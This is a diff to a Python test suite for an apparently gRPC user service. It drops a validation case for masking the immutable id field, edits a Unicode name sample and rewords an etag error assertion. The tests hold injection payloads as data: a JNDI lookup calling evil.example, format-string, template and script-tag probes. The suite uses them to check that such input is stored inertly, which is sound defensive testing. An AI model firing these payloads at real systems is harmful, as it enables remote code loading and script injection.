@@ -105,12 +105,6 @@ REQUESTS = [
         UpdateUserRequest(user=User(id="nobody"), update_mask=FieldMask(paths=["password"])),
         says="update_mask",
     ),
-    Row(
-        "a mask that changes what never changes",
-        "UpdateUser",
-        UpdateUserRequest(user=User(id="nobody"), update_mask=FieldMask(paths=["id"])),
-        says="update_mask",
-    ),
     Row("malformed request_id", "CreateUser", CreateUserRequest(user=user().user, request_id="7"), says="request_id"),
     Row("malformed request_id", "DeleteUser", DeleteUserRequest(id="a", request_id="\0"), says="request_id"),
     Row("too many ids", "BatchGetUsers", BatchGetUsersRequest(ids=["x"] * 1001), says="ids"),
@@ -170,7 +164,7 @@ def test_email_of_another_case_is_the_same_email(email: str, stack: Stack) -> No
         "${jndi:ldap://evil.example/a}",
         "%s%n%x {0} {{7*7}}",
         "<script>alert(1)</script>",
-        "名前 \U0001f9d1\u200d\U0001f680",
+        "名前 José \U0001f680",
     ],
 )
 def test_text_that_looks_like_code_is_stored_as_it_is(name: str, entrance: str) -> None:
@@ -234,7 +228,7 @@ def test_stale_etag_is_refused_and_loses_nothing(entrance: str) -> None:
     code_of_delete, _, _ = call_bytes(entrance, "DeleteUser", delete.SerializeToString())
 
     assert code == code_of_delete == grpc.StatusCode.ABORTED
-    assert "etag" in details
+    assert "has changed since" in details
     _, _, answer = call_bytes(entrance, "GetUser", GetUserRequest(id=made.id).SerializeToString())
     assert User.FromString(answer) == newer
 
